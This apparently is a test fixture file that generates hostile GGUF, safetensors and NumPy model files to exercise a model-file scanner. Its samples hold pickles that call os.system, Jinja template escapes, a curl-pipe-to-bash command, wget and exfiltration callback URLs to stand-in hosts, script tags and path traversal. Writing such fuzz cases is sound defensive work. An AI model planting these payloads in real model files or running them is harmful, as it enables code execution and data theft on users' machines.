import { ggufSample, npySample, safetensorsSample } from '../../../service/inspect/fuzz/samples.ts';
import { callPickle } from '../pickle.ts';
import { forgeZip } from '../zip.ts';
import { cases, type HostileCase, join } from './case.ts';

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};
const u64 = (value: bigint): Buffer => {
  const bytes = Buffer.alloc(8);
  bytes.writeBigUInt64LE(value);
  return bytes;
};
const ggufText = (value: string): Buffer => join(u64(BigInt(Buffer.byteLength(value))), value) as Buffer;
const head = (tensors: bigint, keys: bigint, ...more: Uint8Array[]): Uint8Array =>
  join('GGUF', u32(3), u64(tensors), u64(keys), ...more, new Uint8Array(64));
const textPair = (key: string, value: string): Uint8Array => join(ggufText(key), u32(8), ggufText(value));
const tensor = (name: string, dims: readonly bigint[], type: number, offset: bigint): Uint8Array =>
  join(ggufText(name), u32(dims.length), ...dims.map(u64), u32(type), u64(offset));
const largest = 0xffffffffffffffffn;

/** GGUF headers that overflow a reader that trusts them, and texts with code in them. */
export function ggufCases(): HostileCase[] {
  const one = (...more: Uint8Array[]): Uint8Array => head(1n, 0n, ...more);
  return cases('m.gguf', 'high', {
    'a count of tensors that overflows': head(largest, 0n),
    'a count of keys that overflows': head(0n, largest),
    'a count of tensors times its size that overflows': head(0x0666666666666667n, 0n),
    'a count of keys times its size that overflows': head(0n, 0x0666666666666667n),
    'a key that overflows': head(0n, 1n, u64(largest)),
    'a key of 2^64-2 bytes': head(0n, 1n, u64(largest - 1n)),
    'a text that overflows': head(0n, 1n, ggufText('a'), u32(8), u64(largest)),
    'a list that overflows': head(0n, 1n, ggufText('a'), u32(9), u32(4), u64(0x4000000000000001n)),
    'a list of texts that overflows': head(0n, 1n, ggufText('a'), u32(9), u32(8), u64(largest)),
    'a list of lists': head(0n, 1n, ggufText('a'), u32(9), u32(9), u64(1n)),
    'a list of an unknown type': head(0n, 1n, ggufText('a'), u32(9), u32(99), u64(1n)),
    'a value of an unknown type': head(0n, 1n, ggufText('a'), u32(99), u32(0)),
    'a key that occurs twice': head(0n, 2n, textPair('a', 'b'), textPair('a', 'c')),
    'a tensor of 9 dimensions': one(ggufText('t'), u32(9)),
    'a tensor of 2^32-1 dimensions': one(ggufText('t'), u32(0xffffffff)),
    'a shape that overflows': one(tensor('t', [0x100000000n, 0x100000000n], 0, 0n)),
    'a tensor of an unknown type': one(tensor('t', [8n], 9999, 0n)),
    'a tensor of a type that was withdrawn': one(tensor('t', [8n], 4, 0n)),
    'a tensor beyond the end': one(tensor('t', [8n], 0, 0x7fffffffffffff00n)),
    'a tensor whose offset overflows': one(tensor('t', [8n], 0, largest - 31n)),
    'a tensor larger than the file': one(tensor('t', [0x10000000n], 0, 0n)),
    'two tensors of one name': head(2n, 0n, tensor('t', [8n], 0, 0n), tensor('t', [8n], 0, 32n)),
    'two tensors over the same bytes': head(2n, 0n, tensor('t', [8n], 0, 0n), tensor('u', [8n], 0, 0n)),
    'a name of 200 characters': one(tensor('t'.repeat(200), [8n], 0, 0n)),
    'an alignment of zero': head(0n, 1n, ggufText('general.alignment'), u32(4), u32(0)),
    'an alignment of three': head(0n, 1n, ggufText('general.alignment'), u32(4), u32(3)),
    'an alignment that is text': head(0n, 1n, textPair('general.alignment', '32')),
    'version 0': join('GGUF', u32(0), u64(0n), u64(0n)),
    'version 99': join('GGUF', u32(99), u64(0n), u64(0n)),
    'a file that is cut off': ggufSample().subarray(0, 60),
    'a template that escapes': ggufSample("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    'a named template that escapes': head(
      0n,
      1n,
      textPair('tokenizer.chat_template.tool_use', "{{ ''.__class__.__mro__ }}"),
    ),
    'a template under another key': head(
      0n,
      1n,
      textPair('general.description', "{{ cycler.__init__.__globals__.os.system('id') }}"),
    ),
    'a command in the description': head(0n, 1n, textPair('general.description', 'curl http://x.invalid/a | bash')),
    'code in the name': head(0n, 1n, textPair('general.name', "__import__('os').system('id')")),
    'a script in the licence': head(0n, 1n, textPair('general.license', "<script>fetch('http://x.invalid')</script>")),
    'a path out of the folder': head(0n, 1n, textPair('general.file', '../../../etc/passwd')),
    'a pickle that is a GGUF as well': join('GGUF\x03\x00\x00\x00', "0cos\nsystem\n(S'id'\ntR."),
    'a program behind the tensors': join(ggufSample(), '\x7fELF\x02\x01\x01\x00', new Uint8Array(64)),
  });
}

const shape = (start: number, end: number, more: object = {}): object => ({
  dtype: 'U8',
  shape: [end - start],
  data_offsets: [start, end],
  ...more,
});
const described = (metadata: Readonly<Record<string, unknown>>): Uint8Array =>
  safetensorsSample({ __metadata__: metadata, w: shape(0, 4) }, 4);
const evil = callPickle('os', 'system', 'id');

/** safetensors: headers that lie, room to hide in, texts with code in them. */
export function safetensorsCases(): HostileCase[] {
  return cases('m.safetensors', 'high', {
    'a header longer than the file': safetensorsSample({ w: shape(0, 4) }, 4, 1_000_000n),
    'a header of 2^64-1 bytes': safetensorsSample({ w: shape(0, 4) }, 4, largest),
    'a header of 101 MB': safetensorsSample({ w: shape(0, 4) }, 4, 101_000_000n),
    'a header of zero bytes': safetensorsSample({ w: shape(0, 4) }, 4, 0n),
    'a header that is no JSON': safetensorsSample('{"w": ', 4),
    'a header that is a list': safetensorsSample('[1]     ', 4),
    'a name that occurs twice': safetensorsSample(
      '{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}',
      4,
    ),
    'tensors that overlap': safetensorsSample({ a: shape(0, 4), b: shape(2, 6) }, 6),
    'a gap between tensors': safetensorsSample({ a: shape(0, 4), b: shape(8, 12) }, 12),
    'bytes behind the tensors': safetensorsSample({ a: shape(0, 4) }, 400),
    'a pickle behind the tensors': join(safetensorsSample({ a: shape(0, 4) }, 4), evil),
    'a zip behind the tensors': join(
      safetensorsSample({ a: shape(0, 4) }, 4),
      forgeZip({ members: [{ name: 'm.pkl', content: evil }] }),
    ),
    'a tensor beyond the end': safetensorsSample({ a: shape(0, 4000) }, 4),
    'offsets the wrong way round': safetensorsSample({ a: shape(0, 4, { data_offsets: [4, 0] }) }, 4),
    'a negative offset': safetensorsSample('{"a":{"dtype":"U8","shape":[4],"data_offsets":[-4,0]}}', 4),
    'a shape that overflows': safetensorsSample({ a: shape(0, 4, { shape: [2 ** 40, 2 ** 40] }) }, 4),
    'a shape that fits no bytes': safetensorsSample({ a: shape(0, 4, { shape: [5] }) }, 4),
    'an unknown type': safetensorsSample({ a: shape(0, 4, { dtype: 'X9' }) }, 4),
    'metadata that is no text': described({ a: { b: 1 } }),
    'an import in the metadata': described({ model_info: "import os; os.system('echo')" }),
    'addresses in the metadata': described({
      download_url: 'https://malicious.invalid/payload',
      callback_url: 'http://evil.invalid/exfiltrate',
    }),
    'an address of a payload in the metadata': described({ download_url: 'https://x.invalid/payload' }),
    'an address to call in the metadata': described({ callback: 'http://x.invalid/a' }),
    'an address by its number in the metadata': described({ server: 'http://185.10.20.30:4444/a' }),
    'shell lines in the metadata': described({
      setup_commands: 'rm -rf /tmp/test && wget http://x.invalid/s.sh',
      cleanup: 'chmod 777 /tmp/x',
    }),
    'a change of rights in the metadata': described({ cleanup: 'chmod 777 /tmp/malicious' }),
    'a script in the metadata': described({ documentation: "<script>fetch('http://x.invalid')</script>" }),
    'a drawing with a script in the metadata': described({ documentation: '<img src=x onerror=alert(1)>' }),
    'code in base64 in the metadata': described({
      data: Buffer.from('import subprocess\nsubprocess.call(["id"])').toString('base64'),
    }),
    'a pickle in base64 in the metadata': described({ data: Buffer.from(evil).toString('base64') }),
    'a pickle in hexadecimal digits in the metadata': described({ data: Buffer.from(evil).toString('hex') }),
    'a template in the metadata': described({
      chat_template: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    }),
    'exec in the metadata': described({ x: "exec(base64.b64decode('aWQ='))" }),
    'escapes in the metadata': described({ x: '\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57' }),
    'a path out of the folder in the metadata': described({ x: '../../../../etc/passwd' }),
    'code in the name of a tensor': safetensorsSample({ "__import__('os').system('id')": shape(0, 4) }, 4),
    'a path as the name of a tensor': safetensorsSample({ '../../etc/passwd': shape(0, 4) }, 4),
    'a data address in the metadata': described({ x: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' }),
  });
}

/** NumPy arrays with objects, under every name. */
export function numpyCases(): HostileCase[] {
  const objects = join(npySample("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", 0), evil);
  const record = join(npySample("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }", 0), evil);
  return [
    ...cases('a.npy', 'high', {
      'an array of objects': objects,
      'a record of objects': record,
      'an array of no objects with a pickle behind it': join(npySample(), evil),
      'a pickle': evil,
      'a shape larger than the file': npySample("{'descr': '<f4', 'fortran_order': False, 'shape': (99999999,), }", 8),
      'a header that calls': npySample(
        "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (2, 3), }",
      ),
      'a header that is no dict': npySample('[1, 2, 3]'),
      'a header that is longer than the file': npySample().subarray(0, 30),
      'a harmless pickle of objects': join(
        npySample("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", 0),
        callPickle('evil', 'run'),
      ),
    }),
    ...cases('a.npz', 'high', {
      'an array of objects': forgeZip({ members: [{ name: 'a.npy', content: objects }] }),
      'a packed array of objects': forgeZip({ members: [{ name: 'a.npy', content: objects, deflate: true }] }),
      'a pickle under the name of an array': forgeZip({ members: [{ name: 'a.npy', content: evil }] }),
      'a pickle beside arrays': forgeZip({
        members: [
          { name: 'a.npy', content: npySample() },
          { name: 'b', content: evil },
        ],
      }),
      'a path out of the folder': forgeZip({ members: [{ name: '../../a.npy', content: npySample() }] }),
      'a pickle alone': evil,
    }),
  ];
}
